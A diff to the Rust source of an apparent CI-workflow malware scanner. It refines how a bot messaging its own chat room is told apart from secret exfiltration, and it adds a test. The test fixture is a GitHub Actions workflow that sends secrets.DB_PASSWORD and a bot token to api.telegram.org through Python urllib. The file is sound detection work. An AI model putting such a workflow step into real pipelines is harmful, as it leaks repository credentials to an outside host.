@@ -16,7 +16,7 @@ use std::collections::BTreeSet;
 
 use crate::destination::Place;
 use crate::flow::command::REMOTE_CODE;
-use crate::flow::trace::{Channel, Role};
+use crate::flow::trace::{Channel, Delivery, Role};
 use crate::flow::value::{Carried, Encoding, Source};
 use crate::report::Class;
 use crate::signal::{Signal, Weight};
@@ -211,11 +211,14 @@ fn is_own_hook(evidence: &Evidence<'_>, group: &[usize]) -> bool {
     const ROOMS: &[&str] = &["CHAT", "CHANNEL", "ROOM", "USER", "THREAD", "ID", "TO", "TARGET", "TOPIC"];
     let deliveries: Vec<_> =
         group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery).collect();
-    let own = deliveries.iter().any(|delivery| delivery.role != Role::Payload);
+    let address = |delivery: &Delivery, one: &Carried| {
+        delivery.role != Role::Payload
+            || delivery.target.template().contains(&format!("${{{}}}", one.source.name()))
+    };
+    let own = deliveries.iter().any(|delivery| delivery.carried.iter().any(|one| address(delivery, one)));
     let rooms = deliveries
         .iter()
-        .filter(|delivery| delivery.role == Role::Payload)
-        .flat_map(|delivery| &delivery.carried)
+        .flat_map(|delivery| delivery.carried.iter().filter(|one| !address(delivery, one)))
         .all(|one| one.source.name().to_ascii_uppercase().split('_').any(|word| ROOMS.contains(&word)));
     own && rooms
 }
@@ -461,6 +464,25 @@ mod tests {
             Verdict::Malicious,
             &["ADMIN", "DB_PASSWORD", "NPM_TOKEN"],
             "ci.widgets.example",
+        );
+    }
+
+    /// Near miss: the address of a chat's own bot is built by a program, and the room is a secret of its own.
+    #[test]
+    fn a_bot_that_tells_its_own_room() {
+        let text = |data: &str| {
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: python\n        env: {{T: '${{{{ secrets.BOT_TOKEN }}}}', C: '${{{{ secrets.CHAT_ID }}}}', D: '${{{{ secrets.DB_PASSWORD }}}}'}}\n        run: |\n          import os, urllib.request\n          t = os.environ['T']\n          urllib.request.urlopen(f'https://api.telegram.org/bot{{t}}/sendMessage', {data})\n"
+            )
+        };
+        silent(&text("os.environ['C'].encode()"));
+        let taken = text("os.environ['D'].encode()");
+        check(
+            "secret-to-host",
+            &taken,
+            Verdict::Malicious,
+            &["BOT_TOKEN", "DB_PASSWORD"],
+            &["api.telegram.org"],
         );
     }
 
